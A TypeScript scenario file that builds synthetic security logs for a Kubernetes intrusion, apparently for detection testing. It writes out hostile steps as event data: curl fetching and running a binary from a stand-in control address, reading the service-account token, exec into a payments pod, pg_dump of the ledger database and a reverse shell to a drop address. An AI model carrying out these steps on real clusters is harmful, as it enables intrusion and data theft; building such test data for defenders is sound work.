import type { ScenarioRecord } from './record.ts';
import { auditEvent, podCaller } from './records/kubernetes.ts';
import { hubbleFlow } from './records/network.ts';
import { falcoAlert, tetragonExec } from './records/runtime.ts';
import { trivyReport } from './records/scanner.ts';
import type { World } from './world.ts';

const minute_ms = 60_000;

export const attackTitle =
  'analytics/notebook taken over, its token used to exec into payments/ledger-api, data sent to an outside address';

/** Addresses of the documentation ranges (RFC 5737). */
const controlAddress = '203.0.113.41';
const dropAddress = '198.51.100.77';

/**
 * A notebook that the internet can reach is used as a shell. A tool is fetched and run, the pod's token is tried on
 * secrets and then used to exec into a payments pod, whose data goes to an outside address.
 */
export function attackRecords(world: World): readonly ScenarioRecord[] {
  const notebook = world.podOf('notebook');
  const ledger = world.podOf('ledger-api');
  const at = (minutes: number): number => world.start_ms + Math.round(minutes * minute_ms);
  const token = podCaller(notebook, 'curl/8.5.0');
  return [
    trivyReport(
      world,
      notebook,
      [
        {
          id: 'CVE-2021-44228',
          package: 'log4j-core',
          installed: '2.14.0',
          fixed: '2.15.0',
          severity: 'CRITICAL',
          title: 'log4j: remote code execution through JNDI look-ups',
          score: 10,
        },
        {
          id: 'CVE-2024-2961',
          package: 'libc6',
          installed: '2.36-9+deb12u4',
          fixed: '2.36-9+deb12u7',
          severity: 'HIGH',
          title: 'glibc: out of bounds write in iconv',
          score: 7.3,
        },
      ],
      at(6),
      'attack',
    ),
    falcoAlert(
      world,
      notebook,
      {
        rule: 'Terminal shell in container',
        priority: 'Notice',
        text: 'A shell was spawned in a container with an attached terminal',
        tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
        process: 'bash',
        parent: 'java',
        command_line: 'bash -i',
        event_type: 'execve',
        fields: { 'proc.tty': 34_816 },
      },
      at(41.2),
      'key',
    ),
    tetragonExec(
      world,
      notebook,
      '/usr/bin/curl',
      `-so /tmp/.k http://${controlAddress}/k`,
      at(41.9),
      'attack',
    ),
    hubbleFlow(world, notebook, { ip: controlAddress, port: 80 }, at(41.91), 'attack'),
    falcoAlert(
      world,
      notebook,
      {
        rule: 'Drop and execute new binary in container',
        priority: 'Critical',
        text: 'Executing binary not part of base image',
        tags: ['T1059', 'container', 'maturity_stable', 'mitre_persistence', 'process'],
        process: '.k',
        parent: 'bash',
        command_line: '/tmp/.k -q',
        event_type: 'execve',
        fields: { 'proc.exepath': '/tmp/.k' },
      },
      at(42.4),
      'key',
    ),
    tetragonExec(
      world,
      notebook,
      '/bin/cat',
      '/var/run/secrets/kubernetes.io/serviceaccount/token',
      at(43.1),
      'attack',
    ),
    auditEvent(
      world,
      token,
      { verb: 'list', resource: 'secrets', namespace: 'payments', code: 403 },
      at(43.6),
      'attack',
    ),
    auditEvent(
      world,
      token,
      { verb: 'list', resource: 'secrets', namespace: 'analytics', code: 200 },
      at(43.9),
      'key',
    ),
    auditEvent(
      world,
      token,
      { verb: 'create', resource: 'selfsubjectrulesreviews', code: 201 },
      at(44.2),
      'attack',
    ),
    auditEvent(
      world,
      token,
      {
        verb: 'create',
        resource: 'pods',
        namespace: ledger.namespace,
        name: ledger.name,
        subresource: 'exec',
        query: `command=sh&command=-c&command=id&container=${ledger.workload}&stdout=true`,
        code: 101,
      },
      at(45.5),
      'key',
    ),
    falcoAlert(
      world,
      ledger,
      {
        rule: 'Terminal shell in container',
        priority: 'Notice',
        text: 'A shell was spawned in a container with an attached terminal',
        tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
        process: 'sh',
        parent: 'containerd-shim',
        command_line: 'sh -c id',
        event_type: 'execve',
        fields: { 'proc.tty': 34_817 },
      },
      at(45.52),
      'key',
    ),
    tetragonExec(world, ledger, '/usr/bin/pg_dump', '-h ledger-db ledger', at(46.8), 'attack'),
    hubbleFlow(world, ledger, { ip: dropAddress, port: 8443 }, at(47.6), 'key'),
    falcoAlert(
      world,
      ledger,
      {
        rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
        priority: 'Notice',
        text: 'Redirect stdout/stdin to network connection',
        tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'network', 'process'],
        process: 'sh',
        parent: 'sh',
        command_line: 'sh -i',
        event_type: 'dup3',
        fields: { 'fd.name': `${ledger.ip}:51034->${dropAddress}:8443`, 'fd.sip': dropAddress },
      },
      at(47.62),
      'attack',
    ),
  ];
}
